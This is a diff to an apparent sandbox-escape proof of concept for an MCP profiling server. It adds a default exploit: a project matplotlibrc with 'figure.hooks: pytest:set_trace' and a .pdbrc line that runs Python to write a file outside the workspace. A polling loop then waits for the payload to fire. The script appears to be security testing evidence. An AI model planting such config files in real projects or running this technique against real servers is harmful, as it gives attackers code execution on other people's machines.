@@ -11,9 +11,12 @@ stdin, but the MCP SDK diverts fd 0 to /dev/null (BLOCKED); no one-argument gadg
 found in the time (sys:exit answers the client SystemExit's text; sys:meta_path.append, threading:settrace
 leave the server's imports or threads broken).
 
-    .venv/bin/python docs/evidence/sandbox/probe11/repro_mplrc.py [--user nobody] [--no-commands] [--rc-only]
+    .venv/bin/python docs/evidence/sandbox/probe11/repro_mplrc.py [--no-commands] [--calls | --interact]
 
-Prints RESULT ... SUCCEEDED (a file outside the workspace written by the server's process) or BLOCKED.
+Default: matplotlibrc ``figure.hooks: pytest:set_trace`` and a ``.pdbrc`` in the workspace: pytest's
+set_trace accepts the figure, makes a Pdb, which reads ./.pdbrc and runs its lines as Python, in the
+unconfined server: outside/pwned.txt written. Prints RESULT ... SUCCEEDED (a file outside the workspace
+written by the server's process) or BLOCKED.
 No GPU needed (KPROF_FORCE_CPU=1). --rc-only: only show that the hook is called (faulthandler:_sigsegv)."""
 
 from __future__ import annotations
@@ -35,6 +38,7 @@ ap = argparse.ArgumentParser()
 ap.add_argument("--user")
 ap.add_argument("--no-commands", action="store_true", help="start the server without --allow-commands")
 ap.add_argument("--interact", action="store_true", help="hook code:interact (stdin is /dev/null: BLOCKED)")
+ap.add_argument("--calls", action="store_true", help="only show the call (faulthandler:_sigsegv)")
 a = ap.parse_args()
 
 base = Path(tempfile.mkdtemp(prefix="kprobe11-mplrc-"))
@@ -44,8 +48,11 @@ for d in (ws / "evil", home, outside):
 shutil.copy(HERE / "pkg_init.py", ws / "evil" / "__init__.py")
 (ws / "evil" / "ATTACK").write_text("")
 pwned = outside / "pwned.txt"
-hook = "code:interact" if a.interact else "faulthandler:_sigsegv"
-a.rc_only = not a.interact
+hook = "code:interact" if a.interact else "faulthandler:_sigsegv" if a.calls else "pytest:set_trace"
+a.rc_only = a.calls
+if hook == "pytest:set_trace":  # pytest.set_trace(*args) makes a Pdb, which runs ./.pdbrc's lines as Python
+    line = "import os; open(" + repr(str(pwned)) + ", 'w').write('written by the server: pid '"
+    (ws / ".pdbrc").write_text(line + " + str(os.getpid()) + ' uid ' + str(os.getuid()))\n")
 (ws / "matplotlibrc").write_text(f"# a project's plot style\nfigure.hooks: {hook}\n")
 if a.user:
     subprocess.run(["chown", "-R", f"{a.user}:65534", str(base)], check=True)
@@ -55,6 +62,7 @@ argv = [exe, "--workspace", str(ws)] + ([] if a.no_commands else ["--allow-comma
 if a.user:
     argv = ["setpriv", f"--reuid={a.user}", "--regid=65534", "--clear-groups", *argv]
 env = {
+    **({"PYTHONPATH": os.environ["KPROBE11_SRC"]} if os.environ.get("KPROBE11_SRC") else {}),
     "HOME": str(home),
     "PATH": os.environ["PATH"],
     "KPROF_FORCE_CPU": "1",
@@ -138,6 +146,28 @@ except AttributeError:
     pass
 deadline = time.time() + (30 if a.interact else 120)
 i = 3
+if not a.rc_only and not a.interact:  # wait for the sweep (the file appears when its plot is drawn)
+    while time.time() < deadline and not pwned.exists():
+        if job:
+            send(
+                {
+                    "jsonrpc": "2.0",
+                    "id": i,
+                    "method": "tools/call",
+                    "params": {"name": "get_profile", "arguments": {"job_id": job, "wait_s": 5}},
+                }
+            )
+            i += 1
+            last = read_until(lambda m: m.get("id") == i - 1, 10)
+            if last and '"status": "running"' not in json.dumps(last):
+                print(
+                    "sweep result:",
+                    [w for w in json.dumps(last).split("\\n") if "artifact" in w][:2],
+                    flush=True,
+                )
+                break
+        else:
+            time.sleep(1)
 while time.time() < deadline and not pwned.exists():
     send(code)  # a line of Python, not JSON: the SDK's reader answers a parse error; interact() runs it
     if job:
